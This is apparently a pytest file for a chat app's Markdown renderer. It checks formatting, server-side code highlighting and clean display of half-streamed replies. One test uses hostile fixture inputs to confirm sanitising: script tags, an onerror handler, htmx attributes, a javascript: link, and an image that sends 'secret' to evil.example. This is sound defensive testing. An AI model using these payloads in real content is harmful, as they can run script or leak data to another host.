"""Replies are rendered as Markdown through an allowlist: nothing executable survives; code is
highlighted on the server; a reply still streaming never shows Markdown syntax."""
import re

import pytest

from app.markdown import close_unfinished, render_markdown, render_streaming_markdown


def test_formatting_survives():
    html = render_markdown("**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com)")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_nothing_executable_or_exfiltrating_survives():
    html = render_markdown(
        '<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="#" hx-post="/approve">x</a> '
        '<div hx-swap-oob="true" id="composer">y</div> [js](javascript:alert(1)) ![p](https://evil.example/?q=secret) '
        '<span style="position:fixed">z</span>')
    tags = re.findall(r"<[^>]+>", html)  # what the browser would parse as markup
    assert set(tags) <= {"<p>", "</p>"}, tags
    assert "evil.example" not in html, "images (a way to leak data to another host) are dropped"
    assert "&lt;script&gt;" in html, "raw HTML is shown as text, not dropped silently"


# --- Code blocks and replies still streaming ---------------------------------------------------------

def test_code_blocks_are_highlighted_on_the_server_and_stay_escaped():
    html = render_markdown('```python\ndef f():\n    return "<b>"\n```')
    assert '<pre class="hl"><code><span class="k">def</span>' in html
    assert "&lt;b&gt;" in html and "<b>" not in html


def test_only_the_highlighters_classes_survive():
    html = render_markdown("```nolang\n<span class=\"evil\">x</span>\n```\n\n<span class=\"k\">y</span>")
    tags = re.findall(r"<[^>]+>", html)
    assert not [t for t in tags if "span" in t], tags
    assert '<pre class="hl"><code>&lt;span' in html, "an unknown language is shown plain, escaped"


@pytest.mark.parametrize("partial, shown, raw", [
    ("Hello **wor", "<strong>wor</strong>", "**"),
    ("a *b", "<em>b</em>", "*"),
    ("see [the docs](https://exa", "see the docs", "]("),
    ("```python\nx = 1", '<span class="n">x</span>', "```"),
    ("Inline `co", "<code>co</code>", "`"),
    ("Steps:\n\n1. one\n-", "<li>one</li>", "\n-"),
    ("~~gone", "<s>gone</s>", "~~"),
])
def test_a_streaming_reply_never_shows_markdown_syntax(partial, shown, raw):
    html = render_streaming_markdown(partial)
    assert shown in html
    assert raw not in re.sub(r"<[^>]+>", "", html).replace("&lt;", "<")


def test_a_streaming_reply_leaves_plain_text_as_it_is():
    assert close_unfinished("3 * 4 is 12, snake_case too") == "3 * 4 is 12, snake_case too"
    long = "\n".join(f"line {i} - of a long reply" for i in range(500))
    assert close_unfinished(long) == long
    assert close_unfinished(long + "\n# ") == long, "a lone marker on the last line is held back"
    assert render_streaming_markdown("<script>x</script> **b").count("<script>") == 0
